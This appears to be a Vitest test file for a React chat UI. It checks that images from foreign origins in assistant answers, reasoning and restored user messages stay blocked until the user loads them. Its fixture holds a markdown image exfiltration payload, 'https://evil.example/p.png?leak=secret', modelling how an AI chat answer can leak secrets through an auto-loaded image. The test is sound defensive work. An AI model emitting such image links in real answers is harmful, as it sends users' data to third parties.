import type { ChatMessage } from '@aitre/react';
import { cleanup, fireEvent, screen, within } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { renderChat } from '../test-utils/renderChat.js';

afterEach(cleanup);

function answer(text: string): ChatMessage {
  return {
    id: 'a',
    role: 'assistant',
    parts: [{ type: 'text', text }],
    content: text,
    reasoning: '',
    images: [],
    status: 'done',
    createdAt: 0,
  };
}

const leak = 'Done ![x](https://evil.example/p.png?leak=secret)';

describe('Chat image origins', () => {
  it('holds back a foreign image in an answer until the user loads it, then opens it in the lightbox', async () => {
    const chat = renderChat({ initialMessages: [answer(leak)] });
    const message = chat.lastAnswer();
    expect(message.querySelector('img')).toBeNull();
    const load = within(message).getByRole('button', { name: 'Image from evil.example — Load' });
    fireEvent.click(load);
    expect(message.querySelector('img')?.getAttribute('src')).toContain('evil.example');
    fireEvent.click(within(message).getByRole('button', { name: 'Open image: x' }));
    const dialog = await screen.findByRole('dialog');
    expect(within(dialog).getByRole('img').getAttribute('src')).toContain('evil.example');
  });

  it("shows images from the gateway's origin at once", () => {
    const chat = renderChat({
      initialMessages: [answer('![g](http://127.0.0.1:8787/files/gen_1.png)')],
    });
    expect(chat.lastAnswer().querySelector('img')?.getAttribute('alt')).toBe('g');
  });

  it('applies the policy to reasoning and to images of restored user messages', () => {
    const restored: ChatMessage = {
      id: 'u',
      role: 'user',
      parts: [{ type: 'image', url: 'https://evil.example/u.png' }],
      content: '',
      reasoning: '',
      images: [],
      status: 'done',
      createdAt: 0,
    };
    const thinking = { ...answer('ok'), reasoning: '![r](https://evil.example/r.png)' };
    const chat = renderChat({ initialMessages: [restored, thinking] });
    const log = screen.getByRole('log');
    const toggle = chat.lastAnswer().querySelector('[aria-expanded]') as HTMLElement;
    if (toggle.getAttribute('aria-expanded') === 'false') fireEvent.click(toggle);
    expect(log.querySelector('img[src*="evil.example"]')).toBeNull();
    const blocked = within(log).getAllByRole('button', { name: 'Image from evil.example — Load' });
    expect(blocked).toHaveLength(2);
  });

  it("loads foreign images at once with imageOrigins='any' or a listed origin", () => {
    renderChat({ initialMessages: [answer(leak)], imageOrigins: 'any' });
    expect(screen.getByRole('log').querySelector('img')?.getAttribute('src')).toContain('evil');
    cleanup();
    renderChat({ initialMessages: [answer(leak)], imageOrigins: ['https://evil.example'] });
    expect(screen.getByRole('log').querySelector('img')?.getAttribute('src')).toContain('evil');
  });
});
